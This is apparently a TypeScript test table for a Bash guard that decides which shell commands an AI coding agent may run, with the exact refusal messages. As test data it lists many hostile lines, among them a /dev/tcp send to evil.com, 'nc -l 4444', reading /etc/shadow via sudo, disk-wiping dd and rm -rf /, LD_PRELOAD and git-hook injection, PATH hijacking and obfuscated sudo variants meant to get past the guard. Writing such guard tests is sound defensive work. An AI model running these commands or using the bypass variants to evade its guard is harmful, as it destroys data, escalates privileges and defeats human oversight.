/**
 * The Bash guard, table-driven: every row is a command line an agent might send and the exact
 * sentence the agent receives (ALLOWED when it may run). Decisions only: nothing here is ever
 * executed. The guard's ports are explicit: a project at /home/u/proj, a PATH on which the
 * listed tools live in /usr/bin (/bin/ls is a link to /usr/bin/ls; /tmp/evil/ls and
 * /tmp/evil/git exist but are not on it), and processes 4242 and 4343 descend from the agent.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkBashCommand, type GuardContext } from '../../agent/bash-guard.ts';

const ON_PATH = ['ls', 'cat', 'node', 'git', 'rm', 'npm', 'grep', 'curl', 'pkill', 'tsc', 'vite'];
const EXISTING = new Map<string, string>([
  ['/bin/ls', '/usr/bin/ls'],
  ['/tmp/evil/ls', '/tmp/evil/ls'],
  ['/tmp/evil/git', '/tmp/evil/git'],
  ['/home/u/proj/ls', '/home/u/proj/ls'],
  ['/home/u/proj', '/home/u/proj'],
]);
const ctx: GuardContext = {
  projectDir: '/home/u/proj',
  home: '/home/u',
  tmpDir: '/tmp/ns-session',
  which: (name) => (ON_PATH.includes(name) ? `/usr/bin/${name}` : null),
  realpath: (p) =>
    p.startsWith('/usr/bin/') || p.startsWith('/home/u/proj/node_modules/.bin/')
      ? p
      : (EXISTING.get(p) ?? null),
  isOwnDescendant: (pid) => pid === 4242 || pid === 4343,
};

const ALLOWED = null;

const TABLE: [string, string | null][] = [
  ['ls -la', ALLOWED],
  ['ls', ALLOWED],
  ['cat package.json', ALLOWED],
  ['cat src/index.ts | grep -n TODO', ALLOWED],
  ['head -50 README.md', ALLOWED],
  ['tail -f /dev/null & echo started', ALLOWED],
  ['wc -l src/*.ts', ALLOWED],
  ['grep -rn "useState" src/', ALLOWED],
  ['rg --files', ALLOWED],
  ['find . -name "*.test.ts"', ALLOWED],
  ['find src -type f -name "*.tmp" -delete', ALLOWED],
  ['cp a.txt b.txt', ALLOWED],
  ['mv old.ts new.ts', ALLOWED],
  ['mkdir -p src/components', ALLOWED],
  ['touch src/new.ts', ALLOWED],
  ['chmod +x init.sh', ALLOWED],
  ['chmod u+x scripts/build.sh', ALLOWED],
  ['pwd', ALLOWED],
  ['cd src && ls', ALLOWED],
  ['echo "hello world"', ALLOWED],
  ["printf '%s\n' a b", ALLOWED],
  ["sed -i 's/foo/bar/' src/a.ts", ALLOWED],
  ["awk '{print $1}' data.txt", ALLOWED],
  ['sort data.txt | uniq -c', ALLOWED],
  ['diff a.txt b.txt', ALLOWED],
  ['cut -d, -f1 data.csv', ALLOWED],
  ['tr a-z A-Z < in.txt > out.txt', ALLOWED],
  ['echo done | tee log.txt', ALLOWED],
  ['basename /a/b/c.txt', ALLOWED],
  ['dirname src/a.ts', ALLOWED],
  ['realpath .', ALLOWED],
  ['which node', ALLOWED],
  ['test -f package.json && echo yes', ALLOWED],
  ['[ -d node_modules ] || npm install', ALLOWED],
  ['[[ -f a && -f b ]] && echo both', ALLOWED],
  ['true', ALLOWED],
  ['false || echo failed', ALLOWED],
  ['date +%s', ALLOWED],
  ['sleep 2', ALLOWED],
  ['jq .version package.json', ALLOWED],
  ['tar -xzf archive.tgz', ALLOWED],
  ['unzip -o bundle.zip', ALLOWED],
  ['stat package.json', ALLOWED],
  ['du -sh node_modules', ALLOWED],
  ['file dist/app.js', ALLOWED],
  ['node server.js &', ALLOWED],
  ['node -e "console.log(1)"', ALLOWED],
  ['npm install', ALLOWED],
  ['npm test 2>&1 | tail -20', ALLOWED],
  ['npm run build && npm run lint', ALLOWED],
  ['npx tsc --noEmit', ALLOWED],
  ['npx playwright test', ALLOWED],
  ['pnpm install --frozen-lockfile', ALLOWED],
  ['yarn test', ALLOWED],
  ['bun test', ALLOWED],
  ['deno task test', ALLOWED],
  ['tsc -p .', ALLOWED],
  ['eslint src --fix', ALLOWED],
  ['prettier --write src', ALLOWED],
  ['vite build', ALLOWED],
  ['vitest run', ALLOWED],
  ['jest --ci', ALLOWED],
  ['python3 -m pytest -q', ALLOWED],
  ['pip install -r requirements.txt', ALLOWED],
  ['uv run pytest', ALLOWED],
  ['go test ./...', ALLOWED],
  ['cargo test', ALLOWED],
  ['make build', ALLOWED],
  ['git status', ALLOWED],
  ['git add . && git commit -m "feat: x; y"', ALLOWED],
  ['git diff HEAD~1', ALLOWED],
  ['git log --oneline -5', ALLOWED],
  ['git checkout -b feature/login', ALLOWED],
  ['git checkout src/app.ts', ALLOWED],
  ['git restore src/app.ts', ALLOWED],
  ['git stash', ALLOWED],
  ['git stash pop', ALLOWED],
  ['git push origin main', ALLOWED],
  ['git branch -d merged-branch', ALLOWED],
  ['git clean -n', ALLOWED],
  ['git reset HEAD src/a.ts', ALLOWED],
  ['git rebase --abort', ALLOWED],
  ['git config --get user.name', ALLOWED],
  ['git config user.name', ALLOWED],
  ['./init.sh', ALLOWED],
  ['bash init.sh', ALLOWED],
  ['sh -c "npm test"', ALLOWED],
  ['bash -lc "cd src && ls"', ALLOWED],
  ['ps aux | grep node', ALLOWED],
  ['lsof -i :3000', ALLOWED],
  ['kill 4242', ALLOWED],
  ['kill -TERM 4242', ALLOWED],
  ['kill -s KILL 4242', ALLOWED],
  ['kill -9 4242 4343', ALLOWED],
  ['curl -s http://localhost:3000/health', ALLOWED],
  ['wget -q -O - http://127.0.0.1:5173', ALLOWED],
  ['timeout 30 npm test', ALLOWED],
  ['env', ALLOWED],
  ['printenv', ALLOWED],
  ['env NODE_ENV=test npm test', ALLOWED],
  ['FOO=1 node server.js &', ALLOWED],
  ['NODE_ENV=production npm run build', ALLOWED],
  ['export DEBUG=app:*', ALLOWED],
  ['export PATH="$PATH:./node_modules/.bin"', ALLOWED],
  ['PATH=$PATH:node_modules/.bin vite build', ALLOWED],
  ['source .venv/bin/activate', ALLOWED],
  ['. ./env.sh', ALLOWED],
  ['xargs -n1 echo < list.txt', ALLOWED],
  ['find . -name "*.ts" -exec grep -l foo {} \\;', ALLOWED],
  ['for f in src/*.ts; do echo $f; done', ALLOWED],
  ['if [ -f x ]; then cat x; else echo none; fi', ALLOWED],
  ['while read -r line; do echo "$line"; done < in.txt', ALLOWED],
  ['(cd src && ls)', ALLOWED],
  ['{ echo a; echo b; } > out.txt', ALLOWED],
  ['echo $((1 + 2))', ALLOWED],
  ["cat <<'EOF' > notes.md\nhello $(whoami)\nEOF", ALLOWED],
  ['cat <<EOF > notes.md\nversion $(node -v)\nEOF', ALLOWED],
  ['rm -rf node_modules', ALLOWED],
  ['rm -rf dist build', ALLOWED],
  ['rm -f src/old.ts', ALLOWED],
  ['rm -rf /tmp/ns-session/cache', ALLOWED],
  ['rm "$HOME/../u/proj/tmp.txt"', ALLOWED],
  ['rmdir empty', ALLOWED],
  ['/usr/bin/ls -la', ALLOWED],
  ['/bin/ls', ALLOWED],
  ['./node_modules/.bin/vite build', ALLOWED],
  ['node_modules/.bin/tsc --noEmit', ALLOWED],
  ["echo 'sudo rm -rf /'", ALLOWED],
  ['echo "pkill -f node" > notes.txt', ALLOWED],
  ['grep -n "kill -9 -1" README.md', ALLOWED],
  ['git commit -m "$(cat msg.txt)"', ALLOWED],
  ['ln -s ../shared lib', ALLOWED],
  ['command -v node', ALLOWED],
  ['nohup node server.js > server.log 2>&1 &', ALLOWED],
  ['wait', ALLOWED],
  [
    'sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'echo "$(sudo id)"',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'echo `sudo id`',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    '>/dev/null sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    '2>&1 sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls; shutdown -h now',
    "The command 'shutdown' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls && reboot',
    "The command 'reboot' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'echo $(dd if=/dev/zero of=x)',
    "The command 'dd' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'cat <(sudo cat /etc/shadow)',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'diff <(ls) >(sudo tee x)',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'cat <<EOF\n$(sudo id)\nEOF',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'x=$(sudo id)',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    '"sudo" id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    's\\udo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    "$'sudo' id",
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'su -c id',
    "The command 'su' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'doas id',
    "The command 'doas' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'eval "rm -rf /"',
    "The command 'eval' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    '$CMD --version',
    'The command name must be written out, not computed from $VAR, $(...) or backticks.',
  ],
  [
    '$(echo sudo) id',
    'The command name must be written out, not computed from $VAR, $(...) or backticks.',
  ],
  [
    '`echo sudo` id',
    'The command name must be written out, not computed from $VAR, $(...) or backticks.',
  ],
  [
    '"$SHELL" -c id',
    'The command name must be written out, not computed from $VAR, $(...) or backticks.',
  ],
  [
    '/tmp/evil/ls',
    "'/tmp/evil/ls' is not the ls on the session's PATH; run allowed commands by name (or from the project's node_modules/.bin).",
  ],
  [
    '/tmp/evil/git status',
    "'/tmp/evil/git' is not the git on the session's PATH; run allowed commands by name (or from the project's node_modules/.bin).",
  ],
  [
    './ls',
    "'./ls' is not the ls on the session's PATH; run allowed commands by name (or from the project's node_modules/.bin).",
  ],
  [
    '../bin/node x.js',
    "'../bin/node' is not the node on the session's PATH; run allowed commands by name (or from the project's node_modules/.bin).",
  ],
  [
    '~/bin/npm test',
    "'~/bin/npm' is not the npm on the session's PATH; run allowed commands by name (or from the project's node_modules/.bin).",
  ],
  [
    'PATH=/tmp/evil ls',
    "Changing PATH is refused: commands run from the session's PATH (adding the project's node_modules/.bin is fine).",
  ],
  [
    'PATH=/tmp/evil:$PATH ls',
    "Changing PATH is refused: commands run from the session's PATH (adding the project's node_modules/.bin is fine).",
  ],
  [
    'export PATH=/tmp/evil:$PATH',
    "Changing PATH is refused: commands run from the session's PATH (adding the project's node_modules/.bin is fine).",
  ],
  [
    'env PATH=/tmp/evil ls',
    "Changing PATH is refused: commands run from the session's PATH (adding the project's node_modules/.bin is fine).",
  ],
  [
    'env -i PATH=/tmp/evil ls',
    "Changing PATH is refused: commands run from the session's PATH (adding the project's node_modules/.bin is fine).",
  ],
  ['LD_PRELOAD=/tmp/evil.so ls', 'Setting LD_PRELOAD is refused: it changes which code runs.'],
  ['BASH_ENV=/tmp/x bash -c true', 'Setting BASH_ENV is refused: it changes which code runs.'],
  [
    'export NODE_OPTIONS="--require /tmp/evil.js"',
    'Setting NODE_OPTIONS is refused: it changes which code runs.',
  ],
  [
    'GIT_SSH_COMMAND="sh -c id" git fetch',
    'Setting GIT_SSH_COMMAND is refused: it changes which code runs.',
  ],
  [
    'kill -9 -1',
    'kill -1 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  ['kill -1', 'kill needs an explicit process id of a process this session started.'],
  [
    'kill -- -1',
    'kill -1 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  [
    'kill 0',
    'kill 0 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  [
    'kill -9 0',
    'kill 0 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  [
    'kill 1',
    'kill 1 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  [
    'kill -- -4242',
    'kill -4242 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  [
    'kill -TERM -- -4242',
    'kill -4242 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  ['kill 5555', 'kill 5555 is refused: process 5555 was not started by this session.'],
  ['kill -9 31337', 'kill 31337 is refused: process 31337 was not started by this session.'],
  [
    'kill $(lsof -t -i:3000)',
    'kill with a computed process id ($(...), $VAR, backticks) is refused: kill only explicit process ids of processes this session started.',
  ],
  [
    'kill `cat server.pid`',
    'kill with a computed process id ($(...), $VAR, backticks) is refused: kill only explicit process ids of processes this session started.',
  ],
  [
    'kill %1',
    'kill %1 is refused: kill only explicit process ids of processes this session started (never -1, 0 or a process group).',
  ],
  ['kill', 'kill needs an explicit process id of a process this session started.'],
  [
    'lsof -t -i:3000 | xargs kill',
    'kill needs an explicit process id of a process this session started.',
  ],
  [
    'pkill -f node',
    "pkill is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  [
    'pkill node',
    "pkill is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  [
    'pkill -9 -f "vite"',
    "pkill is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  [
    'killall node',
    "killall is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  [
    '/usr/bin/pkill node',
    "pkill is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  ['rm -rf ${HOME}', "rm of '/home/u' is refused: agents only delete inside the project."],
  ['rm -rf $HOME', "rm of '/home/u' is refused: agents only delete inside the project."],
  ['rm -rf "$HOME"', "rm of '/home/u' is refused: agents only delete inside the project."],
  ['rm -rf ~', "rm of '~' is refused: agents only delete inside the project."],
  ['rm -rf ~/', "rm of '~/' is refused: agents only delete inside the project."],
  ['rm -rf ~/projects', "rm of '~/projects' is refused: agents only delete inside the project."],
  ['rm -rf /', "rm of '/' is refused: agents only delete inside the project."],
  ['rm -rf //', "rm of '//' is refused: agents only delete inside the project."],
  ['rm -rf /*', "rm of '/*' is refused: agents only delete inside the project."],
  ['rm -rf /home/u', "rm of '/home/u' is refused: agents only delete inside the project."],
  ['rm -rf ..', "rm of '..' is refused: agents only delete inside the project."],
  ['rm -rf ../other', "rm of '../other' is refused: agents only delete inside the project."],
  [
    'rm -rf src/../../other',
    "rm of 'src/../../other' is refused: agents only delete inside the project.",
  ],
  ['rm -rf .', "rm -r of '.' is refused: it would delete the whole project."],
  ['rm -rf ./*', "rm -r of './*' is refused: it would delete the whole project."],
  ['rm -rf *', "rm -r of '*' is refused: it would delete the whole project."],
  ['rm -rf /home/u/proj', "rm -r of '/home/u/proj' is refused: it would delete the whole project."],
  ['rm -r /etc', "rm of '/etc' is refused: agents only delete inside the project."],
  [
    'rm -rf "$DIR"',
    "rm -r of '$DIR' is refused: write the path out literally (no variables or substitutions) so it can be checked.",
  ],
  [
    'rm -rf $TMPDIR/cache',
    "rm -r of '$TMPDIR/cache' is refused: write the path out literally (no variables or substitutions) so it can be checked.",
  ],
  ['cd /tmp && rm -rf foo', "rm of 'foo' is refused: agents only delete inside the project."],
  ['cd .. && rm -rf proj', "rm -r of 'proj' is refused: it would delete the whole project."],
  [
    'cd $SOMEWHERE && rm -rf build',
    'rm -r with a relative path after a cd to a computed folder is refused: use a path relative to the project.',
  ],
  ['rm -rf --no-preserve-root /', "rm of '/' is refused: agents only delete inside the project."],
  ['rm -f /etc/passwd', "rm of '/etc/passwd' is refused: agents only delete inside the project."],
  ['find / -name "*.log" -delete', "rm of '/' is refused: agents only delete inside the project."],
  ['find .. -delete', "rm of '..' is refused: agents only delete inside the project."],
  [
    'find . -name "*.js" | xargs rm -rf',
    'rm -r with paths from xargs or find -exec is refused: name the paths literally.',
  ],
  [
    'find . -exec rm -rf {} +',
    'rm -r with paths from xargs or find -exec is refused: name the paths literally.',
  ],
  [
    'git reset --hard',
    'git reset --hard is refused: several agents share this working tree and it would destroy work. Commit or stash your own changes instead.',
  ],
  [
    'git reset --hard HEAD~3',
    'git reset --hard is refused: several agents share this working tree and it would destroy work. Commit or stash your own changes instead.',
  ],
  [
    'git -C . reset --hard origin/main',
    'git reset --hard is refused: several agents share this working tree and it would destroy work. Commit or stash your own changes instead.',
  ],
  [
    'git checkout -- .',
    'git checkout of the whole tree is refused: several agents share this working tree and it would destroy work. Check out specific files by name.',
  ],
  [
    'git checkout .',
    'git checkout of the whole tree is refused: several agents share this working tree and it would destroy work. Check out specific files by name.',
  ],
  [
    'git checkout -f main',
    'git checkout --force is refused: several agents share this working tree and it would destroy work. Check out specific files by name.',
  ],
  [
    'git restore .',
    'git restore of the whole tree is refused: several agents share this working tree and it would destroy work. Restore specific files by name.',
  ],
  [
    'git restore --staged .',
    'git restore of the whole tree is refused: several agents share this working tree and it would destroy work. Restore specific files by name.',
  ],
  [
    'git restore --source=HEAD :/',
    'git restore of the whole tree is refused: several agents share this working tree and it would destroy work. Restore specific files by name.',
  ],
  [
    'git clean -fd',
    'git clean -f is refused: several agents share this working tree and it would destroy work. Delete specific files by name.',
  ],
  [
    'git clean -xdf',
    'git clean -f is refused: several agents share this working tree and it would destroy work. Delete specific files by name.',
  ],
  [
    'git clean --force',
    'git clean -f is refused: several agents share this working tree and it would destroy work. Delete specific files by name.',
  ],
  [
    'git push --force',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git push -f origin main',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git push --force-with-lease',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git push origin +main',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git push origin :feature',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git push --delete origin feature',
    'git push --force is refused: several agents share this working tree and it would destroy work. Push without force; never delete or overwrite remote branches.',
  ],
  [
    'git branch -D feature',
    'git branch -D is refused: several agents share this working tree and it would destroy work. Leave branches to the humans.',
  ],
  [
    'git branch --delete --force feature',
    'git branch -D is refused: several agents share this working tree and it would destroy work. Leave branches to the humans.',
  ],
  [
    'git stash drop',
    'git stash drop is refused: several agents share this working tree and it would destroy work. Leave stashes as they are.',
  ],
  [
    'git stash clear',
    'git stash clear is refused: several agents share this working tree and it would destroy work. Leave stashes as they are.',
  ],
  [
    'git rebase -i HEAD~3',
    'git rebase is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git rebase main',
    'git rebase is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git filter-branch --tree-filter x HEAD',
    'git filter-branch is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git commit --amend -m x',
    'git commit --amend is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git commit --amend --no-edit',
    'git commit --amend is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git reflog expire --expire=now --all',
    'git reflog expire is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git update-ref -d refs/heads/main',
    'git update-ref is refused: it rewrites history on the shared branch. Make a new commit instead.',
  ],
  [
    'git -c core.hooksPath=/tmp/h commit -m x',
    'git -c and --config-env are refused: configuration overrides can run arbitrary programs.',
  ],
  [
    "git -c alias.x='!sudo id' x",
    'git -c and --config-env are refused: configuration overrides can run arbitrary programs.',
  ],
  [
    'git --git-dir=/other/.git status',
    'git --git-dir and --work-tree are refused: work in the project repository.',
  ],
  [
    'git config core.hooksPath /tmp/hooks',
    'Changing git configuration is refused (it lives in .git/config); reading it with --get or --list is fine.',
  ],
  [
    "git config --add alias.x '!id'",
    'Changing git configuration is refused (it lives in .git/config); reading it with --get or --list is fine.',
  ],
  [
    'git config --unset user.name',
    'Changing git configuration is refused (it lives in .git/config); reading it with --get or --list is fine.',
  ],
  [
    'echo hi > .git/hooks/pre-commit',
    "Changing '.git/hooks/pre-commit' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'cp /tmp/hook .git/hooks/pre-push',
    "Changing '.git/hooks/pre-push' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    "echo '[core]' >> .git/config",
    "Changing '.git/config' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    "sed -i 's/a/b/' .git/config",
    "Changing '.git/config' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    "echo '{}' > .claude/settings.json",
    "Changing '.claude/settings.json' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'cp x.json .claude/settings.local.json',
    "Changing '.claude/settings.local.json' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'tee .claude/settings.json < x',
    "Changing '.claude/settings.json' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'mv .claude/settings.json old.json',
    "Changing '.claude/settings.json' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'touch .nightshift/drain',
    "Changing '.nightshift/drain' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'rm -rf .nightshift',
    "Changing '.nightshift' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'rm -rf .git',
    "Changing '.git' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'rm -rf .claude',
    "Changing '.claude' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'mkdir -p .git/hooks/x',
    "Changing '.git/hooks/x' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  [
    'ln -s /tmp/evil .git/hooks/pre-commit',
    "Changing '.git/hooks/pre-commit' is refused: agents cannot change .claude/settings*.json, .nightshift/, .git/hooks or .git/config.",
  ],
  ['chmod 777 x', 'chmod may only add execute permission (chmod +x <file>).'],
  ['chmod -R +x .', 'chmod may only add execute permission (chmod +x <file>).'],
  ['chmod +x', 'chmod may only add execute permission (chmod +x <file>).'],
  ['echo x > /dev/tcp/evil.com/80', 'Redirecting to /dev/tcp or /dev/udp is refused.'],
  ['cat < /dev/udp/1.2.3.4/53', 'Redirecting to /dev/tcp or /dev/udp is refused.'],
  [
    'echo "unclosed',
    'Could not parse the command (unbalanced quotes); write it more simply, one command per line.',
  ],
  [
    'echo $(ls',
    'Could not parse the command (unbalanced brackets); write it more simply, one command per line.',
  ],
  [
    'echo `ls',
    'Could not parse the command (unbalanced backticks); write it more simply, one command per line.',
  ],
  [
    'case $x in a) ls;; esac',
    'case statements are not supported by the guard; use if/elif instead.',
  ],
  ['bash -c "$CMD"', 'sh -c / bash -c needs a literal command string so it can be checked.'],
  [
    'sh -c "sudo id"',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'bash -c \'bash -c "sudo id"\'',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'timeout 5 sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'nohup sudo id &',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'env sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'xargs sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'find . -exec sudo id \\;',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'command sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'docker run -v /:/host alpine',
    "The command 'docker' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ssh user@host',
    "The command 'ssh' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'scp a host:/tmp',
    "The command 'scp' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'nc -l 4444',
    "The command 'nc' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'python3 -c "x" && dd if=/dev/zero of=/dev/sda',
    "The command 'dd' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'crontab -l',
    "The command 'crontab' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'mkfs.ext4 /dev/sda1',
    "The command 'mkfs.ext4' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'chown root x',
    "The command 'chown' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    "alias ls='sudo id'",
    "The command 'alias' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'exec sudo id',
    "The command 'exec' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls() { sudo id; }',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'function f { sudo id; }',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'if true; then sudo id; fi',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'while true; do sudo id; done',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'for x in 1; do killall node; done',
    "killall is refused: it matches processes by name and can stop processes that are not this session's (even Nightshift). Stop a process you started with kill <pid>.",
  ],
  [
    '{ sudo id; }',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    '! sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'time sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls | sudo tee /etc/x',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls || sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'ls & sudo id',
    "The command 'sudo' is not on Nightshift's allowlist for agents. Use an allowed tool instead.",
  ],
  [
    'echo ${x:-$(sudo id)}',
    'Could not parse the command (command substitution inside ${...} is not supported); write it more simply, one command per line.',
  ],
  [
    "echo $'\\x73udo'",
    "Could not parse the command ($'...' escapes other than \\n \\t \\r are not supported); write it more simply, one command per line.",
  ],
];

test(`the Bash guard decides ${TABLE.length} command lines with the exact sentence the agent receives`, () => {
  assert.ok(TABLE.length >= 150);
  const allowed = TABLE.filter(([, s]) => s === ALLOWED).length;
  assert.ok(allowed >= 50 && TABLE.length - allowed >= 100, 'both sides are well covered');
  for (const [command, sentence] of TABLE)
    assert.equal(checkBashCommand(command, ctx), sentence, `for: ${command}`);
});

test("the issue's bypasses are all refused", () => {
  for (const command of [
    'echo "$(sudo id)"',
    '>/dev/null sudo id',
    '/tmp/evil/ls',
    'PATH=/tmp/evil ls',
    'kill -9 -1',
    'pkill -f node',
    'rm -rf ${HOME}',
    'rm -rf //',
  ])
    assert.notEqual(checkBashCommand(command, ctx), null, command);
});

test('kill asks the descendant port about every target, and only about explicit positive pids', () => {
  const asked: number[] = [];
  const spy: GuardContext = { ...ctx, isOwnDescendant: (pid) => (asked.push(pid), pid === 7) };
  assert.equal(checkBashCommand('kill -TERM 7', spy), null);
  assert.notEqual(checkBashCommand('kill 7 8', spy), null);
  assert.notEqual(checkBashCommand('kill -9 -1', spy), null);
  assert.notEqual(checkBashCommand('kill -- -7', spy), null);
  assert.deepEqual(asked, [7, 7, 8]);
});
